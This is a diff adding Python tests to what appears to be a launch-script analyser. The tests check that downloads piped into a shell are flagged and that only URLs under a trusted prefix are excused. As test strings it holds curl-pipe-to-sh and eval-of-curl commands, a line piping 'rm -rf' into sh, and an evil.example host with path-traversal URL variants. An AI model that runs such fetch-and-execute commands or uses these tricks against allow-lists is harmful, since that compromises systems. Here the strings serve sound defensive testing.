@@ -174,3 +174,36 @@ def test_a_trace_that_may_only_spend_part_of_the_budget_leaves_the_rest():
     # ... and a made trace is shared whatever the caller leaves; the review's own use spends the rest.
     assert tracer.trace(POINT, ["runners/launch_h200-cw.sh"], leave=3 * RUN_COST) is not None
     assert tracer.trace(other, ["runners/launch_h200-cw.sh"]) is not None and budget.spent > spent
+
+
+# A download run as shell code names its URL in the unknown effect (`Effect.download`), and one
+# rule (recipes.launch.compare.hides_code) excuses a trusted installer's, for Check 10 and the
+# affected rule alike.
+UV = "https://astral.sh/uv/install.sh"
+
+
+def _unknowns(text):
+    return [e for e in run(text, {}).trace.effects if e.kind == UNKNOWN]
+
+
+def test_a_download_run_as_shell_code_says_what_was_downloaded():
+    from recipes.launch.compare import hides_code
+
+    for text in (f"curl -LsSf {UV} | sh\n", f"curl -LsSf {UV} |\n    UV_INSTALL_DIR=/opt/uv sh\n",
+                 f'eval "$(curl -LsSf {UV})"\n'):
+        (e,) = _unknowns(text)
+        assert opaque(e) and e.download == UV, (text, e)
+        assert not hides_code(e, ["https://astral.sh/uv/"]) and hides_code(e, []) and hides_code(e)
+    # Code that is more than the one download is not the installer's alone.
+    (e,) = _unknowns(f"( curl -LsSf {UV}; echo rm -rf /x ) | sh\n")
+    assert e.download == "" and hides_code(e, ["https://astral.sh/uv/"])
+
+
+def test_only_a_url_under_a_trusted_prefix_is_trusted():
+    from recipes.launch.compare import hides_code
+
+    trusted = ["https://astral.sh/uv/"]
+    for url in ("https://evil.example/uv/install.sh", "https://astral.sh/uv/../evil.sh", "https://astral.sh/uv/%2E%2E/x",
+                "http://astral.sh/uv/install.sh"):
+        (e,) = _unknowns(f"curl -LsSf {url} | sh\n")
+        assert e.download == url and hides_code(e, trusted), url
